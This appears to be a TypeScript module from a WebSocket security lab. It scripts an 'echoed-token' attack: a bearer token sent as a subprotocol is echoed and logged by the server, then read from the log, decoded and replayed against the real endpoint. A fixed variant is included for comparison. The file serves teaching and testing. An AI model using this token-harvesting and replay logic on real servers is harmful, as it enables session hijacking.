import { DEMO_TOKEN } from '../../protocol/messages.ts';
import { BEARER_SUBPROTOCOL, PLAIN_SUBPROTOCOL } from '../../protocol/subprotocols.ts';
import { type Attack, CannotRun } from './attack.ts';
import { lastLine } from './support/log.ts';
import { open, outcome } from './support/socket.ts';

/** Finds the token in the log of what was negotiated. */
export const attack: Attack = {
  name: 'echoed-token',
  async run(scene) {
    const { target, fixed, tell } = scene;
    const offer = [BEARER_SUBPROTOCOL + Buffer.from(DEMO_TOKEN).toString('base64url'), PLAIN_SUBPROTOCOL];
    const url = fixed ? target.method('subprotocol') : target.twin('/echoed-token');
    const used = await open(scene, url, { protocols: offer });
    tell('victim', `offers two subprotocols, the token and lab.v1: ${outcome(used)}`);
    if (!used.opened) throw new CannotRun('The victim was not let in.');
    tell('server', `selects "${used.protocol}"`);
    if (!used.protocol.startsWith(BEARER_SUBPROTOCOL)) {
      tell('attacker', 'finds nothing of worth in response, logs and tools');
      return false;
    }
    const line = await lastLine(scene, 'echoed-token', /negotiated/);
    const found = line?.match(/lab\.([\w-]{20,})/)?.[1];
    if (line === undefined || found === undefined) throw new CannotRun('The log shows no negotiation.');
    tell('server', `logs: ${line}`);
    const token = Buffer.from(found, 'base64url').toString();
    const replayed = await open(scene, target.method('bearer-header'), {
      headers: { Authorization: `Bearer ${token}` },
    });
    tell(
      'attacker',
      `decodes ${token.slice(0, 8)}… from the log and shows it to the real server: ${outcome(replayed)}`,
    );
    return replayed.opened;
  },
};
